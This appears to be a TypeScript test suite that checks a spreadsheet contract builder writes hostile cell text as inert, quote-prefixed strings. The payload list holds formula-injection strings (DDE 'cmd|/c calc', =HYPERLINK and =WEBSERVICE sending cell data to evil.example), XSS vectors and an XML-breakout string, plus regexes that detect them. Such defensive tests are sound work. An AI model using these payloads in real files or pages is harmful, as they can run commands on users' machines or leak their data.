import * as SheetJs from "xlsx";
import { ContractBuilder, type ParsedWorkbook } from "../../src/contract/ContractBuilder";
import { defaultSettings } from "../../src/contract/settings";
import { tables, type TableKey } from "../../src/contract/tables";
import type { XmlElement } from "@cj-tech-master/excelts/xml";
import { checkPackage } from "../host/xlsx/checkPackage";
import { child, descendants, takeApart, textOf } from "../host/xlsx/packageParts";
import { loadBases, specOf, type Base } from "./bases";
import { Book } from "./Book";
import { buildFrom } from "./building";
import { parse } from "./contents";

/** OWASP's payloads for spreadsheets, and what a browser would run. `#` is where each cell puts its own mark. */
const PAYLOADS = [
  "=cmd|'/c calc'!A0 #",
  '=HYPERLINK("https://evil.example/?x="&A1,"#")',
  "+cmd|'/c calc'!A0 #",
  "-2+3+cmd|'/c calc'!A0 #",
  "@SUM(1+1)*cmd|'/c calc'!A0 #",
  "\t=1+1 #",
  "\r=1+1 #",
  "\n=1+1 #",
  '=DDE("cmd";"/c calc";"#")',
  "=MSEXCEL|'\\..\\..\\calc.exe #'!''",
  '=WEBSERVICE("https://evil.example/#")',
  "＝1+1 #",
  "<script>alert('#')</script>",
  "<img src=x onerror=alert(1) #>",
  '"><svg/onload=alert(1) #>',
  ']]></t></is></c><c r="Z9"><f>1+1</f></c> #',
  "{=1+1} # &lt;f&gt; &#61;1",
  "nul\u0000 esc\u001b bell\u0007 #",
  "\ud83d lone #",
  "#;=1+1|calc",
];

const FORMULA_LIKE = /^['=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;
/** Text that XML cannot hold comes out as U+FFFD, line ends as written. */
const LONE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g;

interface Poisoned {
  readonly parsed: ParsedWorkbook;
  /** Every payload that was put into a cell, as the contract holds it. */
  readonly marks: ReadonlySet<string>;
  readonly columns: number;
}

/** Columns whose text is a key that other rows refer to keep one spelling for one text. */
async function poisoned(base: Base, shift: number): Promise<Poisoned> {
  const book = new Book(base.parts);
  const marks = new Set<string>();
  const spelled = new Map<string, string>();
  const touched = new Set<string>();
  let n = shift;
  for (const table of base.tables) {
    const sheet = book.sheet(table.sheet);
    for (const [key, column] of table.columns) {
      const spec = specOf(table.key)[key];
      if (spec?.kind !== "text" || key === "unit" || (table.key === "contract" && key === "setting")) continue;
      for (const row of table.rows) {
        const value = base.value(table.sheet, row, column);
        if (typeof value !== "string" && !(value === null && !spec.required)) continue;
        if (table.key === "contract" && !isTextFact(base, row, column)) continue;
        const old = typeof value === "string" ? value.toLowerCase() : `${table.sheet}${row}`;
        let text = spelled.get(old);
        if (text === undefined) {
          text = (PAYLOADS[n % PAYLOADS.length] ?? "").replace("#", `m${n}m`);
          n++;
          spelled.set(old, text);
        }
        const xml = [...text]
          .map((c) =>
            c < " " || c === "\ud83d" ? `_x${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, "0")}_` : c,
          )
          .join("")
          .replaceAll("&", "&amp;")
          .replaceAll("<", "&lt;")
          .replaceAll(">", "&gt;");
        sheet.set(row, column, "inlineStr", `<is><t xml:space="preserve">${xml}</t></is>`);
        marks.add(text);
        touched.add(`${table.key}.${key}`);
      }
    }
  }
  return { parsed: await parse(book.bytes()), marks, columns: touched.size };
}

/** Of the Contract table only the facts that are text: a name of a currency or a date would be refused as such. */
function isTextFact(base: Base, row: number, column: number): boolean {
  return ["Client", "Supplier", "Contract id", "Title", "Purpose", "Governance document version"].includes(
    String(base.value("Contract", row, column - 1)),
  );
}

interface TextCell {
  readonly text: string;
  readonly style: number;
}

/** What stands in the pack, read from its XML by another's parser: texts, and formulas with where they stand. */
async function inside(
  bytes: Uint8Array,
): Promise<{ texts: TextCell[]; formulas: string[]; prefixed: Set<number>; links: string[] }> {
  const { roots, malformed, texts: parts } = await takeApart(bytes);
  expect(malformed).toEqual([]);
  const root = (part: string): XmlElement => roots.get(part) as XmlElement;
  const shared = [...descendants(root("xl/sharedStrings.xml"), "si")].map(textOf);
  const xfs = child(root("xl/styles.xml"), "cellXfs");
  const prefixed = new Set<number>();
  [...descendants(xfs as XmlElement, "xf")].forEach((xf, i) => {
    if (xf.attributes["quotePrefix"] === "1") prefixed.add(i);
  });
  const texts: TextCell[] = [];
  const formulas: string[] = [];
  const links: string[] = [];
  for (const [part, sheet] of roots) {
    if (part.endsWith(".rels"))
      for (const link of descendants(sheet, "Relationship"))
        if (link.attributes["TargetMode"] === "External") links.push(String(link.attributes["Target"]));
    if (!/^xl\/worksheets\/sheet\d+\.xml$/.test(part)) continue;
    for (const f of descendants(sheet, "f")) formulas.push(textOf(f));
    for (const f of descendants(sheet, "formula")) formulas.push(textOf(f));
    for (const f of descendants(sheet, "formula1")) formulas.push(textOf(f));
    for (const c of descendants(sheet, "c"))
      if (c.attributes["t"] === "s")
        texts.push({ text: shared[Number(textOf(child(c, "v")))] ?? "", style: Number(c.attributes["s"] ?? 0) });
  }
  expect(
    [...parts.keys()].filter((part) => /vbaProject|externalLink|connections|ddeLink|oleObject/i.test(part)),
  ).toEqual([]);
  return { texts, formulas, prefixed, links };
}

const unescaped = (text: string): string =>
  text.replace(/_x([0-9A-Fa-f]{4})_/g, (_all, hex: string) => String.fromCharCode(parseInt(hex, 16)));

let bases: Base[];
beforeAll(async () => {
  bases = await loadBases();
});

const MARK = /m\d+m/;

test("payloads stand in every text column of every table", async () => {
  const [sample] = bases as [Base];
  const { columns, parsed } = await poisoned(sample, 0);
  const all = (Object.keys(tables) as TableKey[]).flatMap((key) =>
    Object.entries(specOf(key))
      .filter(([name, spec]) => spec.kind === "text" && name !== "unit" && name !== "setting")
      .map(([name]) => `${key}.${name}`),
  );
  expect(columns).toBe(all.length);
  // and they were taken as what they are: no row was lost to them
  expect(parsed.contract.kpis).toHaveLength(24);
  for (const report of parsed.contract.reports) expect(report.rowsUsed).toBeGreaterThan(0);
});

test.each([0, 3, 7, 11, 15])("in the pack they are text cells and nothing else (order %i)", async (shift) => {
  const [sample] = bases as [Base];
  const { parsed } = await poisoned(sample, shift);
  const { bytes } = await buildFrom(parsed);
  const { texts, formulas, prefixed, links } = await inside(bytes);
  const marked = texts.filter(({ text }) => MARK.test(text));
  expect(marked.length).toBeGreaterThan(300);
  for (const formula of formulas) expect(formula).not.toMatch(/m\d+m|cmd\||HYPERLINK|WEBSERVICE|DDE/i);
  for (const link of links) expect(link).not.toMatch(/m\d+m|evil|cmd/);
  // what would turn into a formula when the cell is edited carries Excel's own apostrophe
  for (const { text, style } of texts)
    if (FORMULA_LIKE.test(unescaped(text)) && MARK.test(text))
      expect([text, prefixed.has(style)]).toEqual([text, true]);
  const book = SheetJs.read(bytes, { cellFormula: true, cellHTML: false });
  let seen = 0;
  for (const sheet of Object.values(book.Sheets)) {
    for (const [address, cell] of Object.entries(sheet as Record<string, SheetJs.CellObject>)) {
      if (address.startsWith("!") || typeof cell.v !== "string" || !MARK.test(cell.v)) continue;
      seen++;
      expect([cell.t, cell.f]).toEqual(["s", undefined]);
    }
  }
  expect(seen).toBe(marked.length);
  for (const name of book.SheetNames) expect(name).not.toMatch(MARK);
  expect(await checkPackage(bytes)).toEqual([]);
});

test("the other party's copy carries them as text too", async () => {
  const [sample] = bases as [Base];
  const { parsed } = await poisoned(sample, 5);
  const { bytes } = await buildFrom(parsed, "input.xlsx", true);
  const { formulas, texts } = await inside(bytes);
  // only the conditions of its icons; no cell is worked out in a values-only copy
  for (const formula of formulas) expect(formula).toMatch(/^LEFT\(\$[A-Z]+\d+,\d+\)="[^"]{1,8}"$/);
  const book = SheetJs.read(bytes, { cellFormula: true });
  for (const sheet of Object.values(book.Sheets))
    for (const cell of Object.values(sheet as Record<string, SheetJs.CellObject>)) expect(cell.f).toBeUndefined();
  expect(texts.some(({ text }) => MARK.test(text))).toBe(true);
});

test("each payload comes out letter by letter", async () => {
  const [sample] = bases as [Base];
  const { parsed, marks } = await poisoned(sample, 0);
  const kpi = parsed.contract.kpis.map(({ name }) => name);
  for (const name of kpi) expect(marks.has(name) || [...marks].some((mark) => mark.trim() === name)).toBe(true);
  const { bytes } = await buildFrom(parsed);
  const { texts } = await inside(bytes);
  const all = texts.map(({ text }) => unescaped(text)).join("\n");
  for (const name of kpi) expect(all).toContain(name.replace(LONE, "\ufffd"));
});

describe("names of sheets and files", () => {
  const names = ['It\'s <b>&amp; "quoted"</b>', "=cmd|' calc'!A0", "O''Brien & Söhne", "'", "a'!B1&A9", "{{7*7}}"];

  test.each(names)("a sheet called %s is read, pointed at and written", async (name) => {
    const [, messy] = bases as [Base, Base];
    const book = new Book(messy.parts);
    const xml = name.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");
    book.edit("xl/workbook.xml", (text) => text.replace('name="Wk"', `name="${xml}"`));
    const parsed = await parse(book.bytes());
    const observation = parsed.contract.reports.find(({ sheet }) => sheet === name);
    expect(observation?.rowsUsed).toBeGreaterThan(100);
    expect(observation?.address).toBe(`'${name.replaceAll("'", "''")}'!A2:D159`);
    const { bytes } = await buildFrom(parsed);
    const { links } = await inside(bytes);
    expect(links.length).toBeGreaterThan(0);
    expect(await checkPackage(bytes)).toEqual([]);
  });

  test.each(["=1+1.xlsx", "a&b <x> 'y'.xlsx", "#hash %20 ?.xlsx", "@SUM(1).xlsx", "\u202excod.xlsx"])(
    "a file called %s",
    async (file) => {
      const [sample] = bases as [Base];
      const builder = new ContractBuilder({ settings: defaultSettings() });
      expect(builder.finish().contract.kpis).toEqual([]);
      const { bytes } = await buildFrom(await parse(sample.bytes), file);
      const { texts, formulas, links } = await inside(bytes);
      expect(texts.some(({ text }) => text.includes(file))).toBe(true);
      for (const formula of formulas) expect(formula).not.toContain(file);
      expect(links.some((link) => decodeURIComponent(link.split("#")[0] ?? "").endsWith(file))).toBe(true);
      expect(await checkPackage(bytes)).toEqual([]);
    },
  );
});
